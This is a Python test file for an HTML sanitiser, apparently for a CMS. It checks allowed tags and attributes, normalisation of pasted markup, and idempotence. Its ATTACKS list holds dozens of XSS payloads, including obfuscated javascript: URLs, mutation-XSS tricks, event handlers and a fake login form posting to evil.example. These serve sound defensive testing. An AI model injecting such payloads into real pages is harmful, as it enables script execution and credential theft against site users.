"""What `sanitise` keeps, how it writes it, and what never passes."""

import re
from html import escape, unescape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sccon.html import is_empty, parts, sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('x');\">",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='/&#9;/evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='https:javascript:alert(1)'>x</a>",
    "<a href='/' onclick=alert(1)>x</a>",
    "<a href='/' style='position:fixed;inset:0'>x</a>",
    "<a href='/' target=_blank>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p onmouseover=alert(1)>x</p>",
    "<p id=csrf class=site-header>x</p>",
    "<p/onclick=alert(1)>x",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action='//evil.example'><input name=password><button>Login</button></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select><noembed></select><script x='a@b'a>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<blockquote class='pull site-header' cite='javascript:alert(1)'>x</blockquote>",
    "<figure data-image='1 onload=alert(1)' data-alt='x'></figure>",
    "<figure data-image='1' data-alt='\"><script>alert(1)</script>'></figure>",
    "<table background='javascript:alert(1)'><tr><td onclick=alert(1)>x<td>y<tr><td>z<td>z</table>",
    "<th scope='col\" onclick=\"alert(1)'>x</th>",
    "<h1 onclick=alert(1)>x</h1>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<ol start='1\" onclick=\"alert(1)' type='a onclick=alert(1)'><li>x</ol>",
    "<table><tr><td colspan='2 onclick=alert(1)'>x<td>y<tr><td rowspan='\"><script>alert(1)</script>'>z<td>z</table>",
    "<p style='font-family:Wingdings;background:url(javascript:alert(1))'>x</p>",
    "<img alt='<b>' src=x onerror=alert(1)>",
    "<div><div><div onclick=alert(1)><font color=red face='expression(alert(1))'>x</font></div></div></div>",
]

TAG = re.compile(r"<(/?)([a-z0-9]+)((?: [a-z-]+=\"[^\"<>]*\")*)>")
KEPT = {"p", "h2", "h3", "blockquote", "ul", "ol", "li", "a", "strong", "em", "br", "figure", "figcaption"}
KEPT |= {"table", "thead", "tbody", "tr", "th", "td", "s", "sub", "sup", "q"}
KEPT_ATTRIBUTES = {
    ("a", "href"),
    ("blockquote", "class"),
    ("th", "scope"),
    ("figure", "data-image"),
    ("figure", "data-alt"),
    ("ol", "start"),
    ("ol", "type"),
    *((cell, span) for cell in ("td", "th") for span in ("colspan", "rowspan")),
}


def assert_harmless(html: str) -> None:
    """Reads `html` with a stricter eye than a browser's: a tag of ours, letter for letter, or no `<` at all."""
    assert "<" not in TAG.sub("", html)
    for _, tag, attributes in TAG.findall(html):
        assert tag in KEPT
        for name, value in re.findall(r' ([a-z-]+)="([^"]*)"', attributes):
            assert (tag, name) in KEPT_ATTRIBUTES
            if name == "href":
                assert re.match(r"(https?://|mailto:|tel:|/(?![/\\]))", value)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_but_our_own_tags(attack):
    clean = sanitise(f"<p>before</p>{attack}<p>after</p>")

    assert_harmless(clean)
    assert sanitise(clean) == clean
    assert clean.startswith("<p>before</p>")


SAMPLES = {
    "loose text is a paragraph": ("Guten Tag", "<p>Guten Tag</p>"),
    "every line of another program is a paragraph": ("<div>a</div><div>b</div>", "<p>a</p><p>b</p>"),
    "an empty paragraph goes": ("<p>a</p><p>&nbsp;</p><p><br></p><p> </p>", "<p>a</p>"),
    "an empty line parts paragraphs": ("<p>a<br>&nbsp;<br>b<br>c</p>", "<p>a</p><p>b<br>c</p>"),
    "b and i": ("<p><b>a</b> <i>b</i></p>", "<p><strong>a</strong> <em>b</em></p>"),
    "marks in one order": (
        "<p><em>a <strong>b</strong></em><strong> c</strong></p>",
        "<p><em>a </em><strong><em>b</em> c</strong></p>",
    ),
    "neighbours of one kind are one": ("<p><b>a</b><b>b</b></p>", "<p><strong>ab</strong></p>"),
    "space at the edge of bold is not bold": ("<p><b>a </b>b</p>", "<p><strong>a</strong> b</p>"),
    "h1 is h2, h4 is h3": ("<h1>a</h1><h4>b</h4>", "<h2>a</h2><h3>b</h3>"),
    "a heading is not bold": ("<h2><strong>a</strong> <em>b</em></h2>", "<h2>a <em>b</em></h2>"),
    "a no-break space that stands alone stays": (
        "<p>10\u00a0% &#160; von z.\u00a0B.</p>",
        "<p>10&nbsp;% von z.&nbsp;B.</p>",
    ),
    "invisible characters go": ("<p>Ver\u00adwal\u200btung\ufeff</p>", "<p>Verwaltung</p>"),
    "an emoji of several stays whole": ("<p>👩\u200d💻</p>", "<p>👩\u200d💻</p>"),
    "typography stays": ("<p>„Ja“ – ‚so‘ … »x« ’ 5 €</p>", "<p>„Ja“ – ‚so‘ … »x« ’ 5 €</p>"),
    "code stays text": ("<p>a &lt;b&gt; &amp; c</p>", "<p>a &lt;b&gt; &amp; c</p>"),
    "links": (
        '<a href="https://a.example/?x=1&amp;y=2" rel=nofollow>a</a> <a href="mailto:a@b.example">m</a> '
        '<a href="tel:+49301">t</a> <a href="/de/news/">s</a> <a href="#x">x</a>',
        '<p><a href="https://a.example/?x=1&amp;y=2">a</a> <a href="mailto:a@b.example">m</a> '
        '<a href="tel:+49301">t</a> <a href="/de/news/">s</a> x</p>',
    ),
    "Outlook's own links are the original's": (
        '<a href="https://eur01.safelinks.protection.outlook.com/?url=https%3A%2F%2Fa.example%2Fx&amp;data=05%7Cme">a</a>',
        '<p><a href="https://a.example/x">a</a></p>',
    ),
    "items": ("<ul><li><p>a</p></li><li><p>b</p></li></ul>", "<ul><li>a</li><li>b</li></ul>"),
    "a list between items belongs to the one before": (
        "<ol><li>a</li><ul><li>b</li></ul></ol>",
        "<ol><li>a<ul><li>b</li></ul></li></ol>",
    ),
    "quotes": (
        '<blockquote class="pull">a</blockquote><blockquote class="big"><h2>b</h2></blockquote>',
        '<blockquote class="pull"><p>a</p></blockquote><blockquote><p>b</p></blockquote>',
    ),
    "a picture of the library": (
        '<figure data-image="7" data-alt="A &quot;b&quot;"><img src="/x"><figcaption><p>c</p></figcaption></figure>',
        '<figure data-image="7" data-alt="A &quot;b&quot;"><figcaption>c</figcaption></figure>',
    ),
    "a picture from elsewhere leaves its caption": (
        "<figure><img src=x><figcaption>c</figcaption></figure>",
        "<p>c</p>",
    ),
    "a table gets headers": (
        "<table><tr><td><p>a</p><td>b<tr><td>c</table>",
        '<table><thead><tr><th scope="col">a</th><th scope="col">b</th></tr></thead>'
        "<tbody><tr><td>c</td><td></td></tr></tbody></table>",
    ),
    "a table keeps the headers it has": (
        "<table><tr><th>a<td>b<tr><th>c<td>d</table>",
        '<table><tbody><tr><th scope="row">a</th><td>b</td></tr><tr><th scope="row">c</th><td>d</td></tr></tbody></table>',
    ),
    "a table that arranges a page is none": ("<table><tr><td>a<td><h2>b</h2></table>", "<p>a</p><h2>b</h2>"),
    "a wrapper that is bold round everything is none": ("<b><p>a</p><p>b</p></b>", "<p>a</p><p>b</p>"),
}


@pytest.mark.parametrize(("given_html", "expected"), SAMPLES.values(), ids=SAMPLES.keys())
def test_there_is_one_spelling(given_html, expected):
    assert sanitise(given_html) == expected
    assert "".join(parts(given_html)) == expected


TAGS = [
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<i>",
    "</i>",
    "<br>",
    "<div>",
    "</div>",
    "<ul>",
    "<li>",
    "</ul>",
    "<h1>",
    "</h1>",
    "<blockquote>",
    "</blockquote>",
    "<sup>",
    "</sup>",
    "<s>",
    "</s>",
    "<q>",
    "</q>",
    "<ol start=3 type=a>",
    "</ol>",
    "<td colspan=2>",
    "<th rowspan=2>",
    "<li value=5>",
    "<table>",
    "<tr>",
    "<td>",
    "<th>",
    "</table>",
    "</a>",
    "<figcaption>",
    "</figure>",
    "&amp;",
    "&#8205;",
    "👩",
    "\u200b",
]
SPACED = ["<a href=/x>", "<blockquote class=pull>", "<figure data-image=3>", "\u00a0", "\u00ad", " ", "\n"]
PIECES = st.sampled_from([*ATTACKS, *(sample for sample, _ in SAMPLES.values()), *TAGS, *SPACED])


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES | st.text(max_size=5), max_size=12).map("".join))
def test_cleaning_twice_changes_nothing(html):
    once = sanitise(html)

    assert sanitise(once) == once
    assert_harmless(once)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text("aäß„“–…’€<>&\"' \u00a0", min_size=1), min_size=1))
def test_every_visible_letter_survives(lines):
    typed = "".join(f"<p>{escape(line)}</p>" for line in lines)
    text = unescape(re.sub("<[^>]*>", "", sanitise(typed)))

    assert "".join(text.split()) == "".join("".join(lines).split())


def test_nesting_without_end_is_read_as_text():
    assert sanitise("<blockquote>" * 5000 + "a") == "<p>a</p>"
    assert sanitise("<div><b>" * 5000 + "a").count("a") == 1


@pytest.mark.parametrize(
    "html", [None, "", "<p></p>", "<p>&nbsp;<br></p>", "<ul><li></li></ul>", "<img src=x>", "\u200b"]
)
def test_what_shows_nothing_is_empty(html):
    assert is_empty(html)


def test_a_picture_alone_is_not_empty():
    assert not is_empty('<figure data-image="7" data-alt=""></figure>')
